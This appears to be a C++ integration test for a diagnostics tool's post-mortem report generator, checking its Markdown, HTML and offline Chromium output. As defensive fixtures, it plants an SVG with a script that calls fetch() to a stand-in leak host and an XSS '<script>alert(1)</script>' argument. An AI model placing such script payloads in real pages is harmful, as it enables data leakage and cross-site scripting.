// `sonde report` end to end on a case directory written by hand (the journal
// schema of controller/case/journal.h, a truncated last line, an SVG artifact
// that carries a script and an external link): the Markdown and HTML files the
// real binary writes, the HTML read back by a strict HTML5 parser and loaded
// in headless Chromium with the network cut off.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <regex>
#include <set>
#include <sstream>

#include "sonde/common/frame.h"
#include "support/contains.h"
#include "support/sshd_fixture.h"

namespace sonde::testing {
namespace {

namespace fs = std::filesystem;

std::string slurp(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

void spit(const std::string& path, const std::string& text) {
  std::ofstream f(path, std::ios::binary | std::ios::trunc);
  f << text;
}

// A flame-graph-like SVG with what an exporter must never get to do inside a
// report: run a script, load something from the network.
constexpr const char* kSvg =
    R"svg(<?xml version="1.0" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="120" viewBox="0 0 600 120">
<script>fetch("http://report-test.invalid/leak");</script>
<image href="http://report-test.invalid/pixel.png" width="1" height="1"/>
<rect x="0" y="0" width="600" height="120" fill="#fff"/>
<rect x="10" y="90" width="580" height="16" fill="rgb(230,120,40)"/><text x="14" y="102" font-size="12">main</text>
<rect x="10" y="72" width="400" height="16" fill="rgb(220,150,60)"/><text x="14" y="84" font-size="12">handle_request</text>
<rect x="10" y="54" width="250" height="16" fill="rgb(240,90,40)"/><text x="14" y="66" font-size="12">parse_json</text>
</svg>
)svg";

// One case, "outage", in a fresh $SONDE_HOME; removed afterwards.
class ReportTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char t[] = "/tmp/sonde-report-it-XXXXXX";
    ASSERT_NE(mkdtemp(t), nullptr);
    home_ = t;
    case_dir_ = home_ + "/cases/outage";
    fs::create_directories(case_dir_ + "/artifacts");
    spit(case_dir_ + "/case.json",
         R"({"name": "outage", "title": "Checkout 502s after the deploy", )"
         R"("created": "2026-11-25T14:00:00.000Z", "closed": null})"
         "\n");
    spit(case_dir_ + "/artifacts/0004-profile.svg", kSvg);
    spit(case_dir_ + "/artifacts/0005-capture.pcap", "not really a pcap");
    std::vector<std::string> lines = {
        R"j({"v":1,"kind":"case","ts":"2026-11-25T14:00:00.000Z","at":"2026-11-25T14:00:00.000Z","text":"opened","summary":"Checkout 502s after the deploy","redacted":0})j",
        // Written at 14:01 about 13:42: before the case existed.
        R"j({"v":1,"kind":"note","ts":"2026-11-25T14:01:00.000Z","at":"2026-11-25T13:42:00Z","text":"Pager: checkout 502 rate 7% since 13:42","tag":"impact","redacted":0})j",
        R"j({"v":1,"kind":"command","ts":"2026-11-25T14:03:00.000Z","at":"2026-11-25T14:03:00.000Z","argv":["sonde","trace","web1","-c","-p","4242"],"command":"trace","target":"web1","host":"web1.prod","duration_ms":10012,"exit":0,"summary":"10 s of pid 4242: 48213 syscalls, 1290 errors","figures":["futex 30211 calls, 1203 errors (ETIMEDOUT)","connect 87 calls, 87 errors (ECONNREFUSED)"],"ops":[],"artifacts":[],"redacted":2})j",
        R"j({"v":1,"kind":"command","ts":"2026-11-25T14:06:00.000Z","at":"2026-11-25T14:06:00.000Z","argv":["sonde","profile","web1","-p","4242","-o","/tmp/p.svg"],"command":"profile","target":"web1","host":"web1.prod","duration_ms":30000,"exit":0,"summary":"2970 samples, perf_event","figures":["parse_json 41% self","handle_request 63% total"],"ops":[],"artifacts":[{"path":"artifacts/0004-profile.svg","from":"/tmp/p.svg","kind":"svg","bytes":1024},{"path":"artifacts/0005-capture.pcap","kind":"pcap","bytes":17}],"redacted":0})j",
        R"j({"v":1,"kind":"command","ts":"2026-11-25T14:09:00.000Z","at":"2026-11-25T14:09:00.000Z","argv":["sonde","connect","web1","db1:5432","<script>alert(1)</script>"],"command":"connect","target":"web1","host":"web1.prod","duration_ms":3,"exit":1,"summary":"db1:5432 refused | RST in 0.3 ms","figures":["10.0.0.9:5432 refused (RST)"],"ops":[],"artifacts":[],"redacted":0})j",
        R"j({"v":1,"kind":"note","ts":"2026-11-25T14:12:00.000Z","at":"2026-11-25T14:12:00.000Z","text":"the deploy cut the db pool from 50 to 5","tag":"cause","redacted":0})j",
        R"j({"v":1,"kind":"note","ts":"2026-11-25T14:15:00.000Z","at":"2026-11-25T14:15:00.000Z","text":"rolled back web1","tag":"mitigation","redacted":0})j",
    };
    std::string journal;
    for (const auto& l : lines) journal += l + "\n";
    // A crash mid-write: the last line cut short, no newline.
    journal += R"j({"v":1,"kind":"note","ts":"2026-11-25T14:16:00.000Z","text":"half a)j";
    spit(case_dir_ + "/journal.jsonl", journal);
    out_dir_ = home_ + "/out";
    fs::create_directories(out_dir_);
  }
  void TearDown() override {
    std::error_code ec;
    if (!home_.empty() && !HasFailure()) fs::remove_all(home_, ec);
  }

  sonde::testing::Run report(std::vector<std::string> args) {
    args.insert(args.begin(), "report");
    return run_sonde(args, {{"SONDE_HOME", home_}}, 30000);
  }

  std::string home_, case_dir_, out_dir_;
};

std::string section(const std::string& doc, const std::string& title) {
  auto b = doc.find("\n## " + title + "\n");
  if (b == std::string::npos) return "";
  auto e = doc.find("\n## ", b + 1);
  return doc.substr(b, e == std::string::npos ? std::string::npos : e - b);
}

TEST_F(ReportTest, MarkdownHasTheEntriesInTheirSections) {
  std::string path = out_dir_ + "/outage.md";
  sonde::testing::Run r = report({"outage", "-o", path});
  ASSERT_EQ(r.exit_code, 0) << describe(r);
  EXPECT_TRUE(contains(r.err, "journal.jsonl line 8: truncated")) << r.err;
  std::string md = slurp(path);
  ASSERT_FALSE(md.empty());
  EXPECT_TRUE(contains(md, "# Post-mortem: Checkout 502s after the deploy")) << md;

  std::string summary = section(md, "Summary");
  EXPECT_TRUE(contains(summary, "Pager: checkout 502 rate 7% since 13:42")) << summary;
  EXPECT_TRUE(contains(summary, "the deploy cut the db pool")) << summary;
  EXPECT_TRUE(contains(summary, "2026-11-25 13:42:00 – 2026-11-25 14:15:00 UTC")) << summary;
  EXPECT_TRUE(contains(summary, "web1.prod")) << summary;
  EXPECT_TRUE(contains(summary, "Secrets in 2 places were masked when recorded")) << summary;
  EXPECT_TRUE(contains(summary, "journal.jsonl line 8: truncated")) << summary;

  // The note from before the case opened comes first.
  std::string tl = section(md, "Timeline");
  EXPECT_LT(tl.find("Pager: checkout"), tl.find("case opened")) << tl;
  EXPECT_LT(tl.find("case opened"), tl.find("sonde trace web1")) << tl;
  EXPECT_TRUE(contains(tl, "db1:5432 refused \\| RST in 0.3 ms · exit 1")) << tl;

  std::string seen = section(md, "What we saw");
  EXPECT_TRUE(contains(seen, "### web1.prod")) << seen;
  EXPECT_TRUE(contains(seen, "  - futex 30211 calls, 1203 errors (ETIMEDOUT)")) << seen;
  EXPECT_TRUE(contains(seen, "  - parse\\_json 41% self")) << seen;
  EXPECT_TRUE(contains(seen, "  - 10.0.0.9:5432 refused (RST)")) << seen;
  // Only inside code spans, where Markdown shows it as text.
  EXPECT_TRUE(contains(seen, "`sonde connect web1 db1:5432 '<script>alert(1)</script>'`")) << seen;
  const std::string span = "`sonde connect web1 db1:5432 '<script>alert(1)</script>'`";
  for (size_t i = md.find("<script>"); i != std::string::npos; i = md.find("<script>", i + 1))
    EXPECT_EQ(md.compare(i - span.find('<'), span.size(), span), 0)
        << md.substr(i - span.find('<'), 80);

  EXPECT_TRUE(contains(section(md, "Why it happened"), "the deploy cut the db pool"));
  EXPECT_TRUE(contains(section(md, "Impact"), "Pager: checkout 502"));
  EXPECT_TRUE(contains(section(md, "How we found out"), "Pager: checkout 502"));
  EXPECT_TRUE(contains(section(md, "Mitigation and fix"), "rolled back web1"));
  EXPECT_TRUE(contains(section(md, "How we prevent a repeat"), "_What will stop this"));

  // Written outside the case: the links reach the case's artifacts from here.
  std::smatch m;
  ASSERT_TRUE(std::regex_search(md, m, std::regex(R"(\]\(([^)]*0004-profile\.svg)\))"))) << md;
  EXPECT_EQ(m[1].str(), "../cases/outage/artifacts/0004-profile.svg");
  EXPECT_TRUE(fs::exists(out_dir_ + "/" + m[1].str())) << m[1];
}

TEST_F(ReportTest, ActiveCaseToStdoutAndErrors) {
  spit(home_ + "/active", "outage\n");
  sonde::testing::Run r = report({});
  ASSERT_EQ(r.exit_code, 0) << describe(r);
  EXPECT_TRUE(contains(r.out, "# Post-mortem: Checkout 502s after the deploy")) << r.out;
  EXPECT_TRUE(contains(r.out, "](artifacts/0004-profile.svg)")) << r.out;

  sonde::testing::Run j = report({"outage", "--json"});
  ASSERT_EQ(j.exit_code, 0) << describe(j);
  auto doc = json::parse(j.out, nullptr, false);
  ASSERT_TRUE(doc.is_object()) << j.out;
  EXPECT_EQ(doc["case"]["name"], "outage");
  EXPECT_EQ(doc["sections"]["timeline"].size(), 7u);
  EXPECT_EQ(doc["sections"]["why"].size(), 1u);

  sonde::testing::Run missing = report({"nope"});
  EXPECT_EQ(missing.exit_code, 1) << describe(missing);
  EXPECT_TRUE(contains(missing.err, "sonde case list")) << missing.err;

  sonde::testing::Run bad = report({"outage", "-o", out_dir_ + "/x.pdf"});
  EXPECT_EQ(bad.exit_code, 2) << describe(bad);
  EXPECT_TRUE(contains(bad.err, ".html")) << bad.err;

  fs::remove(home_ + "/active");
  sonde::testing::Run none = report({});
  EXPECT_EQ(none.exit_code, 1) << describe(none);
  EXPECT_TRUE(contains(none.err, "sonde case use NAME")) << none.err;
}

// Where kept artifacts (the screenshot) go: build/test-artifacts/report/.
std::string artifact_dir() {
  std::string d = std::string(SONDE_BIN_DIR) + "/../test-artifacts/report";
  fs::create_directories(d);
  return fs::weakly_canonical(d).string();
}

TEST_F(ReportTest, HtmlParsesAsHtml5AndLoadsInChromiumOffline) {
  // In the case directory itself: links are plain artifacts/... paths.
  std::string path = case_dir_ + "/report.html";
  sonde::testing::Run r = report({"outage", "-o", path});
  ASSERT_EQ(r.exit_code, 0) << describe(r);
  std::string html = slurp(path);
  EXPECT_EQ(html.rfind("<!DOCTYPE html>", 0), 0u);
  EXPECT_FALSE(contains(html, "<script")) << "the SVG's script must not be inline";
  EXPECT_FALSE(contains(html, "report-test.invalid"));
  EXPECT_TRUE(contains(html, "data:image/svg+xml;base64,"));
  EXPECT_TRUE(contains(html, "<a href=\"artifacts/0005-capture.pcap\">"));
  EXPECT_TRUE(contains(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
  EXPECT_TRUE(contains(html, "<li>futex 30211 calls, 1203 errors (ETIMEDOUT)</li>"));
  EXPECT_TRUE(contains(html, "Secrets in 2 places were masked when recorded"));
  EXPECT_TRUE(contains(html, "journal.jsonl line 8: truncated"));
  auto sec = [&](const std::string& id) {
    auto b = html.find("<section id=\"" + id + "\">");
    return b == std::string::npos ? std::string() : html.substr(b, html.find("</section>", b) - b);
  };
  EXPECT_TRUE(contains(sec("why"), "the deploy cut the db pool"));
  EXPECT_TRUE(contains(sec("impact"), "Pager: checkout 502"));
  EXPECT_TRUE(contains(sec("mitigation"), "rolled back web1"));
  EXPECT_TRUE(contains(sec("prevention"), "class=\"prompt\""));
  EXPECT_TRUE(contains(sec("seen"), "parse_json 41% self"));

  // A strict HTML5 parser: any parse error fails.
  // Debian's python3-html5lib is for /usr/bin/python3, which a pyenv or venv
  // python3 earlier in PATH does not see.
  std::string python;
  for (const char* py : {"/usr/bin/python3", "python3"})
    if (have_program(py) && run_cmd({py, "-c", "import html5lib"}).exit_code == 0) {
      python = py;
      break;
    }
  if (python.empty())
    GTEST_SKIP() << "python3-html5lib is not installed (apt-get install python3-html5lib)";
  sonde::testing::Run parse = run_cmd({python, "-c",
                                       "import sys, html5lib\n"
                                       "p = html5lib.HTMLParser(strict=True)\n"
                                       "p.parse(open(sys.argv[1], 'rb').read().decode('utf-8'))\n"
                                       "print('parsed', len(p.errors), 'errors')\n",
                                       path});
  EXPECT_EQ(parse.exit_code, 0) << describe(parse) << parse.out;
  EXPECT_TRUE(contains(parse.out, "parsed 0 errors")) << parse.out << parse.err;

  const char* chromium = have_program("chromium")           ? "chromium"
                         : have_program("chromium-browser") ? "chromium-browser"
                                                            : nullptr;
  if (!chromium) GTEST_SKIP() << "chromium is not installed (apt-get install chromium)";
  std::string keep = artifact_dir();
  std::string shot = keep + "/report.png";
  std::string netlog = home_ + "/netlog.json";
  fs::remove(shot);
  sonde::testing::Run c = run_cmd({"timeout",
                                   "60",
                                   chromium,
                                   "--headless=new",
                                   "--no-sandbox",
                                   "--disable-gpu",
                                   "--user-data-dir=" + home_ + "/chromium",
                                   "--no-first-run",
                                   "--disable-background-networking",
                                   "--disable-component-update",
                                   "--disable-sync",
                                   "--disable-default-apps",
                                   "--disable-extensions",
                                   "--screenshot=" + shot,
                                   "--window-size=1200,2000",
                                   "--enable-logging=stderr",
                                   "--v=0",
                                   "--host-resolver-rules=MAP * ~NOTFOUND",
                                   "--log-net-log=" + netlog,
                                   "file://" + path},
                                  {{"HOME", home_}}, 90000);
  ASSERT_EQ(c.exit_code, 0) << describe(c);
  std::printf("report screenshot: %s\n", shot.c_str());
  std::error_code ec;
  auto size = fs::file_size(shot, ec);
  ASSERT_FALSE(ec) << "no screenshot at " << shot << "\n" << c.err;
  std::string png = slurp(shot);
  ASSERT_GT(png.size(), 24u);
  EXPECT_EQ(png.substr(1, 3), "PNG");
  auto be32 = [&](size_t at) {
    return (uint32_t(uint8_t(png[at])) << 24) | (uint32_t(uint8_t(png[at + 1])) << 16) |
           (uint32_t(uint8_t(png[at + 2])) << 8) | uint32_t(uint8_t(png[at + 3]));
  };
  EXPECT_EQ(be32(16), 1200u);
  EXPECT_EQ(be32(20), 2000u);
  // A blank page compresses to a few KB; text, tables and the embedded graph do not.
  EXPECT_GT(size, 30000u) << shot;

  // No console messages at all (a CSP violation or a failed load would log one).
  std::istringstream lines(c.err);
  for (std::string l; std::getline(lines, l);) EXPECT_FALSE(contains(l, "CONSOLE")) << l;

  // The net log names every URL request; none the page makes may leave the
  // machine. Chromium itself still calls home (component updates, account
  // and time checks, even with --disable-background-networking): those hosts
  // are Google's service endpoints, never anything a report links to, and
  // the resolver rules send them nowhere anyway.
  std::string log = slurp(netlog);
  ASSERT_FALSE(log.empty()) << "no net log at " << netlog;
  std::regex remote(R"re("(url|original_url)":"((https?|wss?)://([^/"?:]*)[^"]*)")re");
  std::regex browser_own(R"re((^|\.)(google\.com|googleapis\.com|gvt1\.com)$)re");
  std::set<std::string> seen_urls;
  for (auto it = std::sregex_iterator(log.begin(), log.end(), remote); it != std::sregex_iterator();
       ++it) {
    std::string host = (*it)[4];
    if (std::regex_search(host, browser_own)) continue;
    if (seen_urls.insert((*it)[2]).second) ADD_FAILURE() << "network request: " << (*it)[2];
  }
  EXPECT_FALSE(contains(log, "report-test.invalid"));
}

}  // namespace
}  // namespace sonde::testing
